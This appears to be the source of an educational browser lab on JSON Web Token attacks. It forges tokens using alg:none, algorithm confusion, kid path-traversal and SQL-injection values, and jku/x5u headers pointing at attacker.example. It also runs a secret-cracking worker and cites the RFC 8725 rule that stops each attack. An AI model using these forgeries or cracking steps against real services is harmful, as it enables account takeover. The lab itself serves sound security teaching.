// Lesson 5, the attack lab: an API (the core's verify with the API's own
// keys, plus an allow-list of algorithms and a maximum lifetime), a card
// per attack that forges a token and shows the verdict and the rule that
// stops it, the secret cracker (a worker, cracker.js), and the task:
// get the API to accept an admin token.
import { decode, verify, encode, encodeAsync, lint, generateKey } from "../local.js";
import { $, nowSeconds, messages, showResult, clearResult, setLink, b64urlBytes, item } from "./bench.js";
import { hmacToken, unsecured } from "./forge.js";
import { commonSecrets } from "./secrets.js";

/** The lab API's HMAC secret: a weak one, which the bundled list holds. */
const apiSecret = "Summer2024";
/** The algorithms the lab API accepts. */
const allowed = ["HS256", "RS256"];
/** The longest a token may live, from now, for the lab API. */
const maxLifetime = 86400;

let apiKeys = null; // a promise of {publicPem, jwks, kid}: the API's RSA key
let attacker = null; // a promise of the attacker's own RSA key pair

/** rsaPair generates an RS256 key pair in the key worker. */
async function rsaPair() {
  const k = await generateKey("RS256");
  if (!k.ok) throw new Error(k.error.message);
  return k;
}

async function apiRSA() {
  const k = await rsaPair();
  return { publicPem: k.publicKeyPem, kid: k.kid, jwks: JSON.stringify({ keys: [{ ...k.publicJwk, alg: "RS256", use: "sig" }] }) };
}

/**
 * apiVerify judges a token as the lab API does. key overrides the key the
 * API would pick (its secret for HS256, its JWKS for RS256), for the card
 * that shows what a naive API handing one key to every token would do.
 */
async function apiVerify(token, { key, now = nowSeconds() } = {}) {
  const d = decode(token);
  const reasons = [];
  if (!allowed.includes(d.alg)) reasons.push(`the API accepts ${allowed.join(" and ")} only, and this token says ${d.alg ? JSON.stringify(d.alg) : "no alg"}`);
  const k = key ?? (d.alg === "RS256" ? (await apiKeys).jwks : apiSecret);
  const v = verify(token, { key: k, now });
  if (!v.ok || !v.valid) reasons.push(...messages(v));
  const exp = d.payload?.exp;
  if (typeof exp === "number" && exp - now > maxLifetime) reasons.push(`exp is more than a day away (${Math.round((exp - now) / 86400).toLocaleString("en")} days): the API refuses tokens that live longer`);
  return { accepted: reasons.length === 0, reasons, core: v };
}

/** signed returns the token of an encode result, or throws its error. */
function signed(r) {
  if (!r.ok) throw new Error(r.error.message);
  return r.token;
}

const claims = () => {
  const t = nowSeconds();
  return { sub: "mallory", role: "admin", iat: t, exp: t + 3600 };
};

/** The attacks: what each forges, how the API judges it, and the rule. */
const attacks = [
  {
    id: "none",
    title: "alg: none",
    what: "Take a token, set its alg to none, make yourself admin, drop the signature.",
    forge: async () => ({ token: unsecured(claims()) }),
    rule: "RFC 8725 §3.1 and §2.1: a verifier decides the algorithms it accepts; an unsecured token proves nothing and is never verified.",
  },
  {
    id: "confusion",
    title: "Algorithm confusion",
    what: "The API verifies RS256 with its public key, which anyone can download. Sign an HS256 token using that public key's text as the HMAC secret, and hope the API hands its one key to whatever alg the header names.",
    forge: async () => {
      const { publicPem } = await apiKeys;
      return { token: await hmacToken({ alg: "HS256", typ: "JWT" }, claims(), publicPem), key: publicPem, note: "Verified here as that naive API would, with the RSA public key as the key:" };
    },
    rule: "RFC 8725 §3.1: each key is used with one algorithm, checked by the verifier. The core refuses an RSA, EC or OKP key for HS*, whatever the header says.",
  },
  {
    id: "kid-path",
    title: "kid path traversal",
    what: "Point kid at a file whose content you know (/dev/null is empty) and sign with that content, in case the API reads its key from a file named by kid.",
    forge: async () => ({ token: await hmacToken({ alg: "HS256", typ: "JWT", kid: "../../../../../../dev/null" }, claims(), "") }),
    rule: "RFC 8725 §3.10: never trust received claims; kid only selects among keys the API already holds, and never reaches a path or a query.",
  },
  {
    id: "kid-sql",
    title: "kid SQL injection",
    what: "Make kid a SQL fragment that selects a key you choose, and sign with that key.",
    forge: async () => ({ token: await hmacToken({ alg: "HS256", typ: "JWT", kid: "x' UNION SELECT 'attacker-key' -- " }, claims(), "attacker-key") }),
    rule: "RFC 8725 §3.10: a kid is untrusted input; here it only picks a key from the API's own set, so the injected key is never used.",
  },
  {
    id: "jku",
    title: "jku / x5u to the attacker's keys",
    what: "Sign with your own RSA key and put a jku (or x5u) in the header pointing at your key set, with the API's kid.",
    forge: async () => {
      const [{ kid }, a] = await Promise.all([apiKeys, attacker]);
      return { token: signed(await encodeAsync({ header: { alg: "RS256", typ: "JWT", kid, jku: "https://attacker.example/.well-known/jwks.json", x5u: "https://attacker.example/cert.pem" }, payload: claims(), key: a.privateKeyPem })) };
    },
    rule: "RFC 8725 §3.10: following a jku or x5u from the token lets the attacker pick the key (and is a server-side request forgery). The API uses its own keys; this page fetched nothing.",
  },
  {
    id: "jwk",
    title: "Embedded jwk",
    what: "Sign with your own RSA key and put its public half in the header's jwk, hoping the API verifies with the key the token carries.",
    forge: async () => {
      const [{ kid }, a] = await Promise.all([apiKeys, attacker]);
      return { token: signed(await encodeAsync({ header: { alg: "RS256", typ: "JWT", kid, jwk: a.publicJwk }, payload: claims(), key: a.privateKeyPem })) };
    },
    rule: "RFC 7515 §4.1.3 and RFC 8725 §3.10: a key inside the token proves only that someone had a key. Trust only keys the API holds.",
  },
  {
    id: "ms",
    title: "exp in milliseconds",
    what: "An issuer's bug rather than a forgery: it wrote Date.now() + 3600000, milliseconds, into exp. The signature is real, and as seconds the token expires in the year 57 000: one stolen copy works forever.",
    forge: async () => {
      return { token: signed(encode({ header: { alg: "HS256", typ: "JWT" }, payload: { sub: "user-42", role: "user", iat: nowSeconds(), exp: Date.now() + 3600e3 }, key: apiSecret })), note: "The core's verify alone accepts it (the signature and the dates are valid); the security checks flag it, and the API's own maximum lifetime refuses it:" };
    },
    rule: "RFC 7519 §2 and §4.1.4: NumericDate is seconds. A verifier should also bound a token's remaining lifetime.",
  },
  {
    id: "replay",
    title: "Replaying a token",
    what: "Capture a valid token (from a log, a proxy, a shared screen) and send it again.",
    forge: async () => {
      const t = nowSeconds();
      return { token: signed(encode({ header: { alg: "HS256", typ: "JWT" }, payload: { sub: "user-42", role: "user", jti: crypto.randomUUID(), iat: t, exp: t + 300 }, key: apiSecret })), replay: true };
    },
    rule: "A signed token works for whoever holds it until exp: keep lifetimes short, bind tokens to one audience (RFC 8725 §3.9), and where a replay matters, remember each jti until it expires (RFC 7519 §4.1.7).",
  },
];

/** seen is the replay card's API memory of the jti values it accepted. */
const seen = new Set();

/** initLab builds the attack cards, the cracker and the task. */
export function initLab(done) {
  apiKeys = apiRSA();
  attacker = rsaPair();
  const status = $("l5-status");
  status.textContent = "Generating the API's RSA key and the attacker's…";
  Promise.all([apiKeys, attacker]).then(
    () => (status.textContent = "The lab is ready: the API holds an RSA key pair and an HMAC secret."),
    (err) => (status.textContent = `The lab's keys could not be made: ${err.message}`),
  );
  const list = $("l5-attacks");
  for (const a of attacks) list.append(card(a));
  initCracker();
  initTask(done);
}

function el(tag, props = {}, ...children) {
  const e = document.createElement(tag);
  Object.assign(e, props);
  e.append(...children);
  return e;
}

// card builds one attack's card: what it does, a Forge button, the forged
// token, the API's verdict, the security checks' findings, and the rule.
function card(a) {
  const out = el("pre", { className: "forged", id: `l5-${a.id}-token` });
  const verdict = el("ul", { className: "api-verdict", id: `l5-${a.id}-verdict` });
  const findings = el("p", { className: "tool-status", id: `l5-${a.id}-lint` });
  const button = el("button", { type: "button", id: `l5-${a.id}-forge`, textContent: a.id === "replay" ? "Capture and replay" : "Forge it" });
  button.addEventListener("click", async () => {
    button.disabled = true;
    verdict.replaceChildren();
    try {
      const f = await a.forge();
      out.textContent = f.token;
      if (f.note) item(verdict, f.note, "note");
      if (a.id === "ms") {
        const core = verify(f.token, { key: apiSecret });
        item(verdict, `Core verify alone: ${core.valid ? "valid" : messages(core).join("; ")}`, core.valid ? "pass" : "fail");
      }
      if (f.replay) {
        await replay(f.token, verdict);
      } else {
        judged(verdict, await apiVerify(f.token, { key: f.key }));
      }
      const l = lint(f.token, { key: f.key ?? apiSecret });
      const codes = (l.findings ?? []).filter((x) => x.severity !== "info").map((x) => x.code);
      findings.textContent = codes.length ? `Security checks: ${codes.join(", ")}` : "";
      verdict.closest("article").dataset.state = "forged";
    } catch (err) {
      item(verdict, `Could not forge: ${err.message}`, "fail");
    } finally {
      button.disabled = false;
    }
  });
  return el(
    "article",
    { className: "attack", id: `attack-${a.id}` },
    el("h3", { textContent: a.title }),
    el("p", { textContent: a.what }),
    button,
    out,
    verdict,
    findings,
    el("p", { className: "rule", textContent: a.rule }),
  );
}

// judged writes the API's verdict into a card.
function judged(list, r, prefix = "The API") {
  item(list, r.accepted ? `${prefix}: accepted.` : `${prefix}: refused. ${r.reasons.join("; ")}.`, r.accepted ? "pass" : "fail");
}

// replay sends the captured token three times: once as the owner did,
// again at once, and again after it expired.
async function replay(token, list) {
  const jti = decode(token).payload.jti;
  const send = async (label, now) => {
    const r = await apiVerify(token, { now });
    if (r.accepted && seen.has(jti)) {
      r.accepted = false;
      r.reasons.push(`the core verifies it (a replay looks exactly like the original), but the API has seen jti ${jti} before`);
    }
    if (r.accepted) seen.add(jti);
    judged(list, r, label);
  };
  await send("First use, by its owner", nowSeconds());
  await send("The replay, a second later", nowSeconds() + 1);
  await send("A replay in 6 minutes", nowSeconds() + 360);
}

let worker = null;

// initCracker wires the cracker card to the worker.
function initCracker() {
  const box = $("l5-crack-token");
  const found = $("l5-found");
  const rate = $("l5-rate");
  const bar = $("l5-progress");
  const crackBtn = $("l5-crack");
  const cancelBtn = $("l5-cancel");
  $("l5-count").textContent = commonSecrets.length.toLocaleString("en");
  let strong = null;

  const weak = () => {
    const t = nowSeconds();
    return encode({ header: { alg: "HS256", typ: "JWT" }, payload: { sub: "user-42", role: "user", iat: t, exp: t + 3600 }, key: apiSecret }).token;
  };
  const pick = async () => {
    const target = document.querySelector('input[name="l5-target"]:checked').value;
    found.textContent = "";
    found.dataset.state = "";
    box.readOnly = target !== "own";
    if (target === "weak") box.value = weak();
    if (target === "own") box.value = "";
    if (target === "strong") {
      strong ??= await generateKey("HS256");
      const t = nowSeconds();
      box.value = encode({ header: { alg: "HS256", typ: "JWT" }, payload: { sub: "user-42", iat: t, exp: t + 3600 }, key: strong.secret, secretEncoding: "base64url" }).token;
    }
  };
  for (const r of document.querySelectorAll('input[name="l5-target"]')) r.addEventListener("change", pick);
  pick();

  const finish = () => {
    crackBtn.disabled = false;
    cancelBtn.disabled = true;
  };
  crackBtn.addEventListener("click", () => {
    const d = decode(box.value.trim());
    found.dataset.state = "";
    if (!d.parts?.signature || !["HS256", "HS384", "HS512"].includes(d.alg)) {
      found.dataset.state = "error";
      found.textContent = d.ok || d.alg ? `The cracker tries HMAC secrets: this token is ${d.alg || "not signed"}, not HS256, HS384 or HS512.` : `This is not a token: ${d.error?.message ?? "it does not decode"}.`;
      return;
    }
    worker ??= startWorker();
    crackBtn.disabled = true;
    cancelBtn.disabled = false;
    bar.value = 0;
    delete rate.dataset.rate;
    found.textContent = "";
    rate.textContent = "Starting…";
    worker.onmessage = ({ data }) => {
      if (data.type === "progress") {
        bar.value = data.tried / data.total;
        rate.textContent = `${data.tried.toLocaleString("en")} of ${data.total.toLocaleString("en")} tried · ${data.rate.toLocaleString("en")} per second`;
        return;
      }
      finish();
      if (data.type === "error") {
        found.dataset.state = "error";
        found.textContent = data.message;
        return;
      }
      bar.value = data.tried / data.total;
      rate.dataset.rate = String(data.rate);
      rate.textContent = `${data.tried.toLocaleString("en")} of ${data.total.toLocaleString("en")} tried in ${(data.ms / 1000).toFixed(2)} s · ${data.rate.toLocaleString("en")} per second, in a worker`;
      if (data.found !== null) {
        found.dataset.state = "found";
        found.textContent = `Found the secret: "${data.found}" (candidate ${(data.index + 1).toLocaleString("en")}). Anyone with one token and this list can now sign any token the API will accept.`;
        $("l5-secret").value = data.found;
      } else {
        found.dataset.state = "not-found";
        found.textContent = `Not found: none of the ${data.total.toLocaleString("en")} common secrets signed this token. A random secret of 256 bits is out of reach of any list.`;
      }
    };
    worker.postMessage({ type: "crack", alg: d.alg, signingInput: `${d.parts.header}.${d.parts.payload}`, signature: b64urlBytes(d.parts.signature) });
  });
  // Cancelling ends the worker, which stops at once; the next run starts another.
  cancelBtn.addEventListener("click", () => {
    worker?.terminate();
    worker = null;
    finish();
    found.dataset.state = "cancelled";
    found.textContent = `Cancelled after ${Math.round(bar.value * commonSecrets.length).toLocaleString("en")} candidates.`;
  });
}

function startWorker() {
  const w = new Worker(new URL("cracker.js", import.meta.url), { type: "module" });
  w.onerror = (event) => {
    $("l5-found").dataset.state = "error";
    $("l5-found").textContent = `The cracker failed: ${event.message || "it could not start"}`;
    $("l5-crack").disabled = false;
    $("l5-cancel").disabled = true;
    worker = null;
  };
  return w;
}

// initTask wires the lesson's task: an admin token the API accepts.
function initTask(done) {
  const answer = $("l5-answer");
  $("l5-sign").addEventListener("click", () => {
    const r = encode({ header: { alg: "HS256", typ: "JWT" }, payload: $("l5-payload").value, key: $("l5-secret").value });
    clearResult($("l5-result"));
    if (!r.ok) {
      showResult($("l5-result"), false, r.error.message);
      return;
    }
    answer.value = r.token;
    setLink($("l5-open"), r.token, $("l5-secret").value);
  });
  answer.addEventListener("input", () => {
    clearResult($("l5-result"));
    setLink($("l5-open"), answer.value.trim());
  });
  $("l5-check").addEventListener("click", async () => {
    const token = answer.value.trim();
    if (!token) {
      showResult($("l5-result"), false, "sign or paste a token first.");
      return;
    }
    const r = await apiVerify(token);
    if (!r.accepted) {
      showResult($("l5-result"), false, `the API refused it: ${r.reasons.join("; ")}.`);
      return;
    }
    const role = decode(token).payload?.role;
    if (role !== "admin") {
      showResult($("l5-result"), false, `the API accepted it, but its role is ${JSON.stringify(role ?? null)}, not "admin".`);
      return;
    }
    showResult($("l5-result"), true, "the API accepted your admin token. Every other forgery failed; this one worked only because the API's secret was a word from a list. Use 256 random bits (RFC 8725 §3.5).");
    done(5);
  });
}
